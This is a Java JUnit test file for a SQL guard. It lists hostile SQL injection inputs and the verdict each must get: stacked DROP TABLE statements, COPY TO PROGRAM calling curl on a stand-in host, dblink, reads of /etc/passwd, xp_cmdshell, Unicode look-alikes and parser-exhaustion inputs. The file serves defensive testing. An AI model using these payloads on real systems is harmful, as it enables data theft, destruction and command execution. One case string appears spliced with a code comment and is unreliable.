package io.harden4j.guard.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.harden4j.testkit.HostileEvidence;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/** Group A of the hostile cases: each text with the verdict it must get, in every dialect it is meant for. */
@ExtendWith(HostileEvidence.class)
class SqlHostileCasesTest {
  private static final SqlDialect[] ALL = SqlDialect.values();
  private static final SqlDialect[] PG = {SqlDialect.POSTGRESQL};
  private static final SqlDialect[] MY = {SqlDialect.MYSQL};
  private static final SqlDialect[] LITE = {SqlDialect.SQLITE};

  /** Looks harmless, but its number is not cut quickly, and so may be anything. */
  private static final String SLOW = "SELECT 1e5";

  private static final List<Arguments> CASES = new ArrayList<>();

  private static void deny(String id, String sql, SqlDialect... dialects) {
    for (SqlDialect dialect : dialects) {
      CASES.add(Arguments.of(id, dialect, sql, "DENY"));
    }
  }

  private static void rewrite(String id, String sql, SqlDialect... dialects) {
    for (SqlDialect dialect : dialects) {
      CASES.add(Arguments.of(id, dialect, sql, "OK"));
    }
  }

  static {
    deny("A01", "SELECT 1; DROP TABLE orders", ALL);
    rewrite("A02", "SELECT id FROM orders;", ALL);
    deny("A03", "SELECT id FROM orders; -- done", ALL);
    deny("A04 comment without a space", "SELECT id FROM orders WHERE id=1--1", ALL);
    deny("A05", "SELECT /*!50000 1 INTO OUTFILE '/tmp/x' */ FROM orders", ALL);
    deny("A06", "SELECT 1 --x\rFROM secrets", ALL);
    deny("A06 carriage return", "SELECT id\rFROM orders", ALL);
    deny("A07 hash comment", "SELECT id FROM orders # x", MY);
    deny("A08", "SELECT E'\\'; DROP TABLE orders; --'", ALL);
    deny("A08 with a space", "SELECT U& '\\0061' FROM orders", PG);
    deny("A09", "SELECT $$it's$$ FROM orders", ALL);
    deny("A10", "SELECT $t$; DROP TABLE orders; $t$", ALL);
    deny("A11", "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", ALL);
    deny("A12", "WITH d AS (UPDATE orders SET total = 0 RETURNING id) SELECT id FROM d", ALL);
    deny("A13", "SELECT * INTO copy FROM orders", ALL);
    deny("A14", "SELECT * FROM orders INTO OUTFILE '/tmp/x'", ALL);
    deny("A15", "SELECT * FROM orders FOR UPDATE", ALL);
    deny("A15 share", "SELECT * FROM orders FOR SHARE SKIP LOCKED", ALL);
    deny("A15 inside", "SELECT * FROM (SELECT id FROM orders FOR UPDATE) x", ALL);
    deny("A16", "SELECT pg_sleep(3600)", ALL);
    deny("A16 sleep", "SELECT SLEEP(5) FROM orders", MY);
    deny("A17", "SELECT pg_read_file('/etc/passwd')", ALL);
    deny("A18 with a schema", "SELECT pg_catalog.lower('x') FROM orders", ALL);
    deny("A18 quoted", "SELECT \"pg_sleep\"(1) FROM orders", PG);
    deny("A19", "SELECT * FROM dblink('host=evil','select 1') AS t(a int)", ALL);
    deny("A20", "SELECT * FROM OPENROWSET('x','y','z')", ALL);
    deny("A21", "SELECT load_extension('/tmp/x.so')", ALL);
    deny("A22", "SELECT set_config('app.tenant','globex',false)", ALL);
    deny("A23", "SELECT current_setting('app.tenant')", ALL);
    deny("A24", "SELECT lo_export(1,'/tmp/x')", ALL);
    deny("A25", "EXPLAIN ANALYZE DELETE FROM orders", ALL);
    deny("A25 select", "EXPLAIN SELECT id FROM orders", ALL);
    deny("A26", "COPY orders TO PROGRAM 'curl evil.test'", ALL);
    deny("A27", "SET ROLE admin", ALL);
    deny("A27 path", "SET search_path=evil", ALL);
    deny("A28", "TABLE secrets", ALL);
    deny("A28 permitted", "TABLE orders", ALL);
    deny("A28 inside", "SELECT * FROM (TABLE orders) x", ALL);
    deny("A29", "CALL p()", ALL);
    deny("A29 exec", "EXEC xp_cmdshell 'dir'", ALL);
    deny("A30", "MERGE INTO orders USING s ON (1=1) WHEN MATCHED THEN DELETE", ALL);
    deny("A31", "DO $$ BEGIN DELETE FROM orders; END $$", ALL);
    deny("A32", "PRAGMA writable_schema=1", ALL);
    deny("A32 attach", "ATTACH DATABASE '/tmp/x' AS y", ALL);
    rewrite("A33", "SELECT id FROM orders WHERE tenant_id='globex' OR 1=1", ALL);
    rewrite(
        "A34 outer join",
        "SELECT o.id, c.name FROM orders o LEFT JOIN customers c ON c.tenant_id = 'globex' OR 1=1",
        ALL);
    rewrite("A35", "SELECT id FROM orders UNION ALL SELECT id FROM customers", ALL);
    deny("A36", "SELECT id FROM orders UNION ALL SELECT password_hash FROM users", ALL);
    deny("A37", "SELECT (SELECT password_hash FROM users LIMIT 1)", ALL);
    deny("A37 column", "SELECT password_hash FROM customers", ALL);
    deny("A37 whole row", "SELECT c FROM customers c", ALL);
    deny("A37 call by dot", "SELECT c.row_to_json FROM customers c", ALL);
    deny("A37 composite", "SELECT (c).password_hash FROM customers c", PG);
    deny("A38", "SELECT id FROM orders o, LATERAL (SELECT * FROM secrets) s", ALL);
    rewrite("A39", "SELECT * FROM customers", ALL);
    rewrite("A39 qualified", "SELECT c.* FROM customers c", ALL);
    deny("A40", "SELECT * FROM customers NATURAL JOIN orders", ALL);
    deny("A41", "SELECT id FROM information_schema.tables", ALL);
    deny("A41 pg", "SELECT id FROM pg_catalog.pg_class", ALL);
    deny("A41 bare", "SELECT relname FROM pg_class", ALL);
    deny("A41 sqlite", "SELECT name FROM sqlite_master", ALL);
    deny("A41 same name", "SELECT id FROM pg_temp.orders", ALL);
    deny("A42", "SELECT id FROM \"Orders\"", PG);
    deny("A42 h2", "SELECT id FROM \"orders\"", SqlDialect.H2);
    deny("A42 mysql", "SELECT id FROM \"orders\"", MY);
    rewrite("A42 twin", "SELECT id FROM Orders", ALL);
    rewrite(
        "A42 quoted twin", "SELECT id FROM \"orders\"", SqlDialect.POSTGRESQL, SqlDialect.SQLITE);
    rewrite("A42 quoted twin", "SELECT id FROM `orders`", MY);
    deny("A43", "SELECT id FROM or\u200bders", ALL);
    deny("A43 in a literal", "SELECT id FROM orders WHERE note = 'a\u200bb'", ALL);
    deny("A43 bidi", "SELECT id FROM orders WHERE note = 'a\u202eb'", ALL);
    deny("A44", "SELECT id FROM orders\u00a0WHERE 1=1", ALL);
    deny("A45 full width", "SELECT id FROM \uff4frders", ALL);
    deny("A46", "SELECT id FROM \u043erders", ALL);
    deny("A46 quoted", "SELECT id FROM \"\u043erders\"", PG);
    rewrite("A47", "SELECT id FROM orders LIMIT 1000000000", ALL);
    rewrite("A47 all", "SELECT id FROM orders LIMIT ALL", ALL);
    rewrite("A47 null", "SELECT id FROM orders LIMIT NULL", ALL);
    rewrite("A47 huge", "SELECT id FROM orders LIMIT 99999999999999999999", ALL);
    rewrite("A47 fetch", "SELECT id FROM orders FETCH FIRST 999999 ROWS ONLY", ALL);
    rewrite("A47 ties", "SELECT id FROM orders ORDER BY id FETCH FIRST 999999 ROWS WITH TIES", PG);
    rewrite("A47 top", "SELECT TOP 100 PERCENT WITH TIES id FROM orders", ALL);
    rewrite("A47 offset", "SELECT id FROM orders LIMIT 5, 1000000", MY);
    deny("A47 query", "SELECT id FROM orders LIMIT (SELECT 5)", ALL);
    deny("A47 negative", "SELECT id FROM orders LIMIT -1", ALL);
    deny(
        "A48",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT count(*) FROM r",
        ALL);
    deny(
        "A48 without the word",
        "WITH r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT count(*) FROM r",
        ALL);
    deny("A49", "SELECT * FROM orders a CROSS JOIN orders b CROSS JOIN orders c", ALL);
    deny("A49 commas", "SELECT 1 FROM orders a, orders b, orders c", ALL);
    deny("A49 on true", "SELECT 1 FROM orders a JOIN orders b ON 1=1 JOIN orders c ON 2=2", ALL);
    rewrite(
        "A49 twin",
        "SELECT a.id FROM orders a, customers b, orders c WHERE a.customer_id = b.id AND c.id = a.id",
        ALL);
    deny("A50 many joins", "SELECT 1 FROM orders a0" + joins(30), ALL);
    deny("A50 many branches", "SELECT 1" + " UNION SELECT 1".repeat(60), ALL);
    deny("A51", "SELECT " + "(".repeat(200_000) + "1" + ")".repeat(200_000), ALL);
    deny("A51 in list", "SELECT id FROM orders WHERE id IN (1" + ",1".repeat(500_000) + ")", ALL);
    deny("A51 nots", "SELECT id FROM orders WHERE " + "NOT ".repeat(4_500) + "1=1", ALL);
    deny("A51 signs", "SELECT " + "- ".repeat(9_000) + "1 FROM orders", ALL);
    deny("A51 deep", "SELECT " + "(SELECT ".repeat(30) + "1" + ")".repeat(30), ALL);
    deny(
        "A51 cases", "SELECT " + "CASE WHEN 1=1 THEN ".repeat(500) + "1" + " END".repeat(500), ALL);
    deny("A52", "SELECT id FROM orders\u0000; DROP TABLE orders", ALL);
    rewrite("A53", "SELECT id FROM orders WHERE note LIKE '%; DROP TABLE x%'", ALL);
    rewrite("A53 umlaut", "SELECT id FROM orders WHERE note = 'M\u00fcller''s -- /* note'", ALL);
    rewrite("A54", "WITH t AS (SELECT id FROM orders) SELECT count(*) FROM t", ALL);
    deny("A55 parameter", "SELECT id FROM orders WHERE id = ?", ALL);
    deny("A55 named", "SELECT id FROM orders WHERE id = :id", ALL);
    deny("A55 variable", "SELECT /** Group A of the hostile casesversion", ALL);
    deny("A55 escape", "SELECT {fn user()} FROM orders", ALL);
    deny("A56 cast", "SELECT 'secrets'::regclass", ALL);
    deny("A56 word", "SELECT current_user FROM orders", ALL);
    deny("A56 row id", "SELECT ctid FROM orders", ALL);
    deny("A56 regex", "SELECT id FROM orders WHERE note ~ '(a+)+$'", PG);
    deny("A56 sample", "SELECT id FROM orders TABLESAMPLE SYSTEM (10)", ALL);
    deny("A56 values", "SELECT * FROM (VALUES (1)) v", ALL);
    deny("A56 backslash", "SELECT id FROM orders WHERE note = '\\'' OR 1=1", MY);
    deny("A57 our names", "WITH h4j_1 AS (SELECT id FROM orders) SELECT * FROM h4j_1", ALL);
    deny(
        "A57 late name",
        "WITH a AS (SELECT * FROM secrets), secrets AS (SELECT 1 AS id) SELECT * FROM a",
        ALL);
    deny(
        "A57 name out of scope",
        "SELECT * FROM (WITH secrets AS (SELECT 1 AS id) SELECT id FROM secrets) x, secrets",
        ALL);
    rewrite("A57 shadow", "WITH secrets AS (SELECT id FROM orders) SELECT * FROM secrets", ALL);
    deny("A59 empty", " ;", ALL);
    deny("A59 not SQL", "please show me all orders", ALL);
    deny("A59 load", "SELECT load_file('/etc/passwd')", LITE);
  }

  private static String joins(int n) {
    StringBuilder joins = new StringBuilder();
    for (int i = 1; i <= n; i++) {
      joins.append(" JOIN orders a").append(i).append(" ON a").append(i).append(".id = a0.id");
    }
    return joins.toString();
  }

  static Stream<Arguments> cases() {
    return CASES.stream();
  }

  @ParameterizedTest(name = "{0} {1} -> {3}")
  @MethodSource("cases")
  void gets_its_verdict(String id, SqlDialect dialect, String sql, String expected) {
    boolean rewritten = expected.equals("OK");
    SqlGovernor governor = Shop.governor(dialect);
    long start = System.nanoTime();

    String verdict;
    try {
      verdict = governor.governText(sql, Shop.ANA).sql();
    } catch (SqlRefusedException e) {
      verdict = "";
      assertThat(e.getMessage()).as("echo").doesNotContain("secrets").doesNotContain("password");
    }

    assertThat(!verdict.isEmpty()).as(verdict).isEqualTo(rewritten);
    assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(5));
    if (rewritten && !sql.contains("WITH secrets")) {
      assertThat(verdict)
          .containsIgnoringCase("tenant_id")
          .contains("= 'acme'")
          .endsWith("LIMIT 1000");
    }
  }

  @Test
  void A33_the_predicate_stands_in_a_derived_table_where_no_or_reaches() {
    String sql = Shop.governor(SqlDialect.POSTGRESQL)
        .govern("SELECT id FROM orders WHERE tenant_id='globex' OR 1=1", Shop.ANA)
        .sql();

    assertThat(sql)
        .isEqualTo("SELECT * FROM (SELECT id FROM (SELECT \"id\", \"tenant_id\" FROM \"orders\""
            + " WHERE \"tenant_id\" = ? OFFSET 0) AS orders WHERE tenant_id = 'globex' OR 1 = 1)"
            + " AS h4j_rows LIMIT 1000");
  }

  @Test
  void A57_no_table_name_of_the_querys_author_is_sent() {
    String sql = Shop.governor(SqlDialect.POSTGRESQL)
        .govern("WITH secrets AS (SELECT id FROM orders) SELECT id FROM secrets", Shop.ANA)
        .sql();

    assertThat(sql).startsWith("WITH h4j_1 AS (").contains("FROM h4j_1 AS secrets)");
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void A34_the_tenants_rows_are_fenced_in_unless_that_is_said(SqlDialect dialect) {
    String fenced =
        Shop.governor(dialect).governText("SELECT id FROM orders", Shop.ANA).sql();
    String open = Shop.builder(dialect)
        .withoutFence()
        .build()
        .governText("SELECT id FROM orders", Shop.ANA)
        .sql();

    assertThat(fenced).contains("'acme' " + dialect.fence() + ")");
    assertThat(open).contains("'acme')");
  }

  @ParameterizedTest
  @EnumSource(SqlDialect.class)
  void A48_recursion_is_refused_with_what_to_do_instead(SqlDialect dialect) {
    String levels = "WITH RECURSIVE r AS (SELECT id, customer_id FROM orders WHERE id = 1 UNION"
        + " SELECT o.id, o.customer_id FROM orders o JOIN r ON o.customer_id = r.id) SELECT id FROM r";

    assertThatThrownBy(() -> Shop.governor(dialect).govern(levels, Shop.ANA))
        .isInstanceOfSatisfying(SqlRefusedException.class, e -> {
          assertThat(e.refusal()).isEqualTo(SqlRefusal.RECURSION);
          assertThat(e.refusal().toModel()).contains("Join the table with itself");
        })
        .hasMessageContaining("permit a view");
  }

  @Test
  void A39_a_star_is_written_out_as_the_permitted_columns() {
    String sql = Shop.governor(SqlDialect.POSTGRESQL)
        .govern("SELECT * FROM customers", Shop.ANA)
        .sql();

    assertThat(sql)
        .contains(
            "SELECT customers.\"id\", customers.\"tenant_id\", customers.\"name\", customers.\"city\" FROM")
        .doesNotContain("password_hash");
  }

  @Test
  void A51_a_parser_that_takes_too_long_is_not_waited_for() {
    SqlWorkers hasty = new SqlWorkers(Duration.ofMillis(1));

    assertThatThrownBy(() -> hasty.run(SqlHostileCasesTest::untilInterrupted))
        .isInstanceOfSatisfying(
            SqlRefusedException.class, e -> assertThat(e.refusal()).isEqualTo(SqlRefusal.BOUND));
  }

  @Test
  void A51_only_what_is_read_soon_is_read_on_the_thread_of_the_caller() {
    SqlWorkers workers = new SqlWorkers(Duration.ofSeconds(20));
    String nested = "SELECT id FROM orders WHERE id IN (".repeat(9) + "1" + ")".repeat(9);
    String lists = "SELECT id FROM orders WHERE id = 1" + " AND id IN (1, 2, 3, 4)".repeat(120);

    assertThat(threadOf("SELECT id FROM orders", workers)).isEqualTo(Thread.currentThread());
    assertThat(threadOf(SLOW, workers)).isNotEqualTo(Thread.currentThread());
    assertThat(threadOf(nested, workers)).isNotEqualTo(Thread.currentThread());
    assertThat(threadOf(lists, workers)).isNotEqualTo(Thread.currentThread());
  }

  private static Thread threadOf(String sql, SqlWorkers workers) {
    return workers.run(reader -> {
      reader.read(sql);
      return Thread.currentThread();
    });
  }

  private static String untilInterrupted(SqlReader reader) {
    reader.read(SLOW);
    try {
      new CountDownLatch(1).await();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
    return "";
  }
}
